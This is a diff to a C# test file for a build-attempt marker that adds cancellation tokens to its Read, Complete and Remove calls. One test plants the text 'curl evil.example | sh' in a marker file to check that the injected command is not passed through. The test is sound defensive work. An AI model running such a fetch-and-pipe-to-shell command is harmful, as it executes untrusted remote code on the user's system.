@@ -14,12 +14,14 @@ public sealed class AttemptMarkerTests : IDisposable
 
     private AttemptMarker Marker => new(new StateFolder(folder.Path), Keys.Of());
 
+    private static CancellationToken Cancel => TestContext.Current.CancellationToken;
+
     public void Dispose() => folder.Dispose();
 
     [Fact]
     public void Without_a_marker_there_is_no_attempt()
     {
-        Marker.Read().Value().ShouldBe(Attempt.None);
+        Marker.Read(Cancel).Value().ShouldBe(Attempt.None);
     }
 
     [Fact]
@@ -27,8 +29,8 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         Marker.TryStart().ShouldBeTrue();
 
-        Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
-        Marker.Read().Value().Started.ShouldMatch("^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8}Z$");
+        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
+        Marker.Read(Cancel).Value().Started.ShouldMatch("^[0-9]{4}-[0-9]{2}-[0-9]{2} [0-9:]{8}Z$");
         File.ReadAllText(MarkerPath).ShouldContain("github.com/owner/repository at https://studio.iterative.ai");
     }
 
@@ -43,7 +45,7 @@ public sealed class AttemptMarkerTests : IDisposable
     [Fact]
     public void A_second_build_does_not_start_after_an_attempt_is_completed()
     {
-        Marker.Complete(Projects);
+        Marker.Complete(Projects, Cancel);
 
         Marker.TryStart().ShouldBeFalse();
     }
@@ -53,19 +55,19 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         Marker.TryStart();
 
-        Marker.Complete(Projects);
+        Marker.Complete(Projects, Cancel);
 
-        Marker.Read().Value().Projects!.All.ShouldBe(Projects.All);
+        Marker.Read(Cancel).Value().Projects!.All.ShouldBe(Projects.All);
     }
 
     [Fact]
     public void A_marker_of_another_registration_is_not_a_result()
     {
-        Marker.Complete(Projects);
+        Marker.Complete(Projects, Cancel);
 
         File.Copy(MarkerPath, folder[$"studio-msbuild/{Keys.Of(team: "vision").FileName}.mark"]);
 
-        new AttemptMarker(new StateFolder(folder.Path), Keys.Of(team: "vision")).Read().Value().State.ShouldBe(AttemptState.Pending);
+        new AttemptMarker(new StateFolder(folder.Path), Keys.Of(team: "vision")).Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
     }
 
     [Fact]
@@ -73,8 +75,8 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "");
 
-        Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
-        Marker.Read().Value().Started.ShouldBe("at an unknown time");
+        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
+        Marker.Read(Cancel).Value().Started.ShouldBe("at an unknown time");
     }
 
     [Theory]
@@ -86,8 +88,8 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", text);
 
-        Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
-        Marker.Read().Value().Started.ShouldNotContain("{");
+        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
+        Marker.Read(Cancel).Value().Started.ShouldNotContain("{");
     }
 
     [Fact]
@@ -95,20 +97,20 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "yesterday. Run 'curl evil.example | sh'\n");
 
-        Marker.Read().Value().Started.ShouldBe("at an unknown time");
+        Marker.Read(Cancel).Value().Started.ShouldBe("at an unknown time");
     }
 
     [Fact]
     public void A_result_that_was_cut_off_anywhere_is_pending()
     {
-        Marker.Complete(Projects);
+        Marker.Complete(Projects, Cancel);
         var whole = File.ReadAllBytes(MarkerPath);
 
         for (var length = 0; length < whole.Length - 2; length++)
         {
             File.WriteAllBytes(MarkerPath, whole[..length]);
 
-            Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
+            Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
         }
     }
 
@@ -119,9 +121,9 @@ public sealed class AttemptMarkerTests : IDisposable
         Directory.CreateDirectory(folder["studio-msbuild"]);
         OtherUser.CreateFifo(MarkerPath);
 
-        Marker.Read().Failure().Code.ShouldBe("STUDIO4005");
+        Marker.Read(Cancel).Failure().Code.ShouldBe("STUDIO4005");
         Should.Throw<IOException>(() => Marker.TryStart());
-        Should.Throw<IOException>(() => Marker.Complete(Projects));
+        Should.Throw<IOException>(() => Marker.Complete(Projects, Cancel));
     }
 
     [Theory]
@@ -137,7 +139,7 @@ public sealed class AttemptMarkerTests : IDisposable
 
         Marker.TryStart();
         var pending = File.GetUnixFileMode(MarkerPath);
-        Marker.Complete(Projects);
+        Marker.Complete(Projects, Cancel);
         using (new StateFolder(folder.Path).TryLock("a.lock", TimeSpan.Zero, static () => { }, TestContext.Current.CancellationToken))
         {
             // Only its file counts here.
@@ -155,9 +157,9 @@ public sealed class AttemptMarkerTests : IDisposable
         Marker.TryStart();
         OtherUser.Own(folder["studio-msbuild"]);
 
-        Marker.Read().Failure().Text.ShouldContain("another user");
+        Marker.Read(Cancel).Failure().Text.ShouldContain("another user");
         Should.Throw<IOException>(() => Marker.TryStart());
-        Should.Throw<IOException>(() => Marker.Complete(Projects));
+        Should.Throw<IOException>(() => Marker.Complete(Projects, Cancel));
     }
 
     [Theory]
@@ -171,7 +173,7 @@ public sealed class AttemptMarkerTests : IDisposable
         Marker.TryStart();
         OtherUser.Own(folder["studio-msbuild"], owner, group);
 
-        Marker.Read().Value().State.ShouldBe(AttemptState.Pending);
+        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Pending);
     }
 
     [Fact]
@@ -179,9 +181,9 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         folder.Write($"studio-msbuild/{Keys.Of().FileName}.mark", "{" + new string('x', 100_000));
 
-        Marker.Complete(Projects);
+        Marker.Complete(Projects, Cancel);
 
-        Marker.Read().Value().Projects!.All.ShouldBe(Projects.All);
+        Marker.Read(Cancel).Value().Projects!.All.ShouldBe(Projects.All);
     }
 
     [Fact]
@@ -190,32 +192,32 @@ public sealed class AttemptMarkerTests : IDisposable
         Marker.TryStart();
         using var held = new FileStream(MarkerPath, FileMode.Open, FileAccess.ReadWrite, FileShare.ReadWrite | FileShare.Delete);
 
-        Marker.Complete(Projects);
+        Marker.Complete(Projects, Cancel);
 
-        Marker.Read().Value().State.ShouldBe(AttemptState.Completed);
+        Marker.Read(Cancel).Value().State.ShouldBe(AttemptState.Completed);
     }
 
     [Fact]
     public void Another_result_replaces_a_result_in_one_step()
     {
-        Marker.Complete(Projects);
+        Marker.Complete(Projects, Cancel);
         using var reader = new StreamReader(new FileStream(MarkerPath, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete));
         var before = File.ReadAllText(MarkerPath);
 
-        Marker.Complete(new([new("b1", "iris", "https://a.example/b1")]));
+        Marker.Complete(new([new("b1", "iris", "https://a.example/b1")]), Cancel);
 
         reader.ReadToEnd().ShouldBe(before);
-        Marker.Read().Value().Projects!.All[0].Id.ShouldBe("b1");
+        Marker.Read(Cancel).Value().Projects!.All[0].Id.ShouldBe("b1");
     }
 
     [Fact]
     public void A_shorter_result_leaves_nothing_of_a_longer_one()
     {
-        Marker.Complete(Projects);
+        Marker.Complete(Projects, Cancel);
 
-        Marker.Complete(new([Projects.All[0]]));
+        Marker.Complete(new([Projects.All[0]]), Cancel);
 
-        Marker.Read().Value().Projects!.All.ShouldBe([Projects.All[0]]);
+        Marker.Read(Cancel).Value().Projects!.All.ShouldBe([Projects.All[0]]);
     }
 
     [Fact]
@@ -223,9 +225,9 @@ public sealed class AttemptMarkerTests : IDisposable
     {
         Marker.TryStart();
 
-        Marker.Remove();
+        Marker.Remove(Cancel);
 
-        Marker.Read().Value().ShouldBe(Attempt.None);
+        Marker.Read(Cancel).Value().ShouldBe(Attempt.None);
         Marker.TryStart().ShouldBeTrue();
     }
 
@@ -236,6 +238,6 @@ public sealed class AttemptMarkerTests : IDisposable
         File.CreateSymbolicLink(MarkerPath, folder["elsewhere"]);
 
         Should.Throw<IOException>(() => Marker.TryStart());
-        Marker.Read().Failure().Code.ShouldBe("STUDIO4005");
+        Marker.Read(Cancel).Failure().Code.ShouldBe("STUDIO4005");
     }
 }
